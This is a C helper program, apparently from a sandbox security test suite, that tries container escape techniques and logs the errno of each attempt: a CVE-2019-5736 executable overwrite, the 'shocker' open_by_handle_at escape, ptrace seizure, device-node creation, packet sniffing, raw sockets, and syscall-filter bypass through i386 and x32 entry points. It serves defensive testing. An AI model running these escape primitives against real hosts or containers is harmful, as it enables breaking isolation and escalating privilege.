/* probe_escape — the actions of the escape tests, one per mode. Built static
 * by tests/security/conftest.py and run inside sandboxes (and, for control
 * runs, unconfined on the host). It only *attempts*: whether an attempt
 * escaped is judged by the test from evidence on the host (a file's hash, a
 * canary's content, /proc of the host, a listener's accept count), never
 * from what this program prints. Prints "<mode> <errno>" lines for logs.
 *
 *   probe_escape exe-overwrite PATH SECONDS   keep an O_PATH fd of PATH, retry
 *                                             reopening it for writing
 *   probe_escape handle PATH                  print PATH's file handle (host)
 *   probe_escape shocker DIR TYPE HEX OUT     open_by_handle_at, copy to OUT
 *   probe_escape ptrace PID SECONDS           PTRACE_SEIZE and hold it
 *   probe_escape mknod DIR                    block 8:0 and char 1:1 nodes
 *   probe_escape sniff SECONDS OUT            AF_PACKET capture to OUT
 *   probe_escape rawsend IP PORT MARKER       raw IP socket, UDP to IP:PORT
 *   probe_escape connect PATH|@NAME MARKER    unix stream connect + send
 *   probe_escape userns SECONDS               unshare(CLONE_NEWUSER) and hold
 *   probe_escape abi                          denied calls via i386 and x32 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sched.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static int report(const char *what, int ok)
{
    printf("%s %d\n", what, ok ? 0 : errno);
    fflush(stdout);
    return ok ? 0 : 1;
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* CVE-2019-5736: hold the binary by an O_PATH fd while it runs, reopen it
 * writable through /proc/self/fd once it no longer does (ETXTBSY gone). */
static int exe_overwrite(const char *path, double secs)
{
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return report("exe-open", 0);
    char link[64];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    double end = now() + secs;
    int w = -1;
    while ((w = open(link, O_WRONLY | O_CLOEXEC)) < 0 && now() < end)
        usleep(2000);
    if (w < 0)
        return report("exe-overwrite", 0);
    ssize_t n = write(w, "PWNED-EXE", 9);
    return report("exe-overwrite", n == 9);
}

static int handle_of(const char *path)
{
    char buf[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    struct file_handle *h = (struct file_handle *)buf;
    h->handle_bytes = MAX_HANDLE_SZ;
    int mnt;
    if (name_to_handle_at(AT_FDCWD, path, h, &mnt, 0) < 0)
        return report("handle", 0);
    printf("%d ", h->handle_type);
    for (unsigned i = 0; i < h->handle_bytes; i++)
        printf("%02x", h->f_handle[i]);
    printf("\n");
    return 0;
}

/* "shocker": open a file of the mount's file system by handle, bypassing
 * every path (and so every chroot/pivot_root) check. */
static int shocker(const char *dir, int type, const char *hex, const char *out)
{
    char buf[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    struct file_handle *h = (struct file_handle *)buf;
    size_t n = strlen(hex) / 2;
    if (n > MAX_HANDLE_SZ)
        return 2;
    h->handle_bytes = (unsigned)n;
    h->handle_type = type;
    for (size_t i = 0; i < n; i++)
        sscanf(hex + 2 * i, "%2hhx", &h->f_handle[i]);
    int mfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int fd = mfd < 0 ? -1 : open_by_handle_at(mfd, h, O_RDONLY);
    if (fd < 0)
        return report("shocker", 0);
    char data[256];
    ssize_t got = read(fd, data, sizeof data);
    int ofd = open(out, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (ofd >= 0 && got > 0 && write(ofd, data, (size_t)got) < 0)
        got = -1;
    return report("shocker", got > 0);
}

static int trace(pid_t pid, int secs)
{
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
        return report("ptrace", 0);
    report("ptrace", 1);
    sleep((unsigned)secs); /* the host looks at TracerPid meanwhile */
    return 0;
}

static int make_nodes(const char *dir)
{
    char p[4096];
    snprintf(p, sizeof p, "%s/blk", dir);
    int rc = report("mknod-block", mknod(p, S_IFBLK | 0666, makedev(8, 0)) == 0);
    snprintf(p, sizeof p, "%s/mem", dir);
    rc |= report("mknod-char", mknod(p, S_IFCHR | 0666, makedev(1, 1)) == 0);
    return rc;
}

static int sniff(int secs, const char *out)
{
    int s = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
    if (s < 0)
        return report("packet-socket", 0);
    report("packet-socket", 1);
    struct timeval tv = {0, 200000};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    int ofd = open(out, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    double end = now() + secs;
    while (now() < end) {
        char buf[2048];
        ssize_t n = recv(s, buf, sizeof buf, 0);
        if (n > 0 && ofd >= 0 && write(ofd, buf, (size_t)n) < 0)
            break;
    }
    return 0;
}

static int rawsend(const char *ip, int port, const char *marker)
{
    int s = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_UDP);
    if (s < 0)
        return report("raw-socket", 0);
    report("raw-socket", 1);
    char pkt[512];
    size_t ml = strlen(marker) < 256 ? strlen(marker) : 256;
    struct udphdr *u = (struct udphdr *)pkt;
    memset(u, 0, sizeof *u);
    u->source = htons(40000);
    u->dest = htons((uint16_t)port);
    u->len = htons((uint16_t)(sizeof *u + ml));
    memcpy(pkt + sizeof *u, marker, ml);
    struct sockaddr_in to = {.sin_family = AF_INET};
    inet_pton(AF_INET, ip, &to.sin_addr);
    ssize_t n = sendto(s, pkt, sizeof *u + ml, 0, (struct sockaddr *)&to, sizeof to);
    return report("raw-send", n > 0);
}

static int connect_unix(const char *path, const char *marker)
{
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    socklen_t len;
    if (path[0] == '@') { /* abstract name: per network namespace */
        strncpy(a.sun_path + 1, path + 1, sizeof a.sun_path - 2);
        len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(path + 1));
    } else {
        strncpy(a.sun_path, path, sizeof a.sun_path - 1);
        len = sizeof a;
    }
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0 || connect(s, (struct sockaddr *)&a, len) < 0)
        return report("connect", 0);
    ssize_t n = write(s, marker, strlen(marker));
    return report("connect", n > 0);
}

static int nested_userns(int secs)
{
    if (unshare(CLONE_NEWUSER) < 0)
        return report("userns", 0);
    report("userns", 1);
    sleep((unsigned)secs); /* the host counts user namespaces meanwhile */
    return 0;
}

/* Every call the filter denies must be denied through the i386 (int 0x80)
 * and x32 entry points too, not only the x86_64 one. Numbers are each ABI's
 * own. getpid is the control: with no filter it reaches the kernel. */
static long int80(long nr, long a, long b, long c)
{
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
    return r;
}

static int abi(void)
{
    static const struct {
        const char *name;
        long i386, x32;
    } calls[] = {
        {"getpid", 20, 39},        {"io_uring_setup", 425, 425}, {"bpf", 357, 321},
        {"perf_event_open", 336, 298}, {"userfaultfd", 374, 323}, {"keyctl", 288, 250},
        {"mount", 21, 165},        {"unshare", 310, 272},        {"open_by_handle_at", 342, 304},
        {"add_key", 286, 248},     {"init_module", 128, 175},    {"kexec_load", 283, 528},
    };
    for (size_t i = 0; i < sizeof calls / sizeof calls[0]; i++) {
        long r = int80(calls[i].i386, -1, 16, 0);
        printf("i386_%s %ld\n", calls[i].name, r < 0 ? -r : 0);
        r = syscall(0x40000000L | calls[i].x32, -1L, 16L, 0L, -1L, -1L, -1L);
        printf("x32_%s %d\n", calls[i].name, r < 0 ? errno : 0);
    }
    return 0;
}

int main(int argc, char **argv)
{
    if (argc < 2)
        return 2;
    const char *m = argv[1];
    if (!strcmp(m, "exe-overwrite") && argc == 4)
        return exe_overwrite(argv[2], atof(argv[3]));
    if (!strcmp(m, "handle") && argc == 3)
        return handle_of(argv[2]);
    if (!strcmp(m, "shocker") && argc == 6)
        return shocker(argv[2], atoi(argv[3]), argv[4], argv[5]);
    if (!strcmp(m, "ptrace") && argc == 4)
        return trace((pid_t)atoi(argv[2]), atoi(argv[3]));
    if (!strcmp(m, "mknod") && argc == 3)
        return make_nodes(argv[2]);
    if (!strcmp(m, "sniff") && argc == 4)
        return sniff(atoi(argv[2]), argv[3]);
    if (!strcmp(m, "rawsend") && argc == 5)
        return rawsend(argv[2], atoi(argv[3]), argv[4]);
    if (!strcmp(m, "connect") && argc == 4)
        return connect_unix(argv[2], argv[3]);
    if (!strcmp(m, "userns") && argc == 3)
        return nested_userns(atoi(argv[2]));
    if (!strcmp(m, "abi"))
        return abi();
    return 2;
}
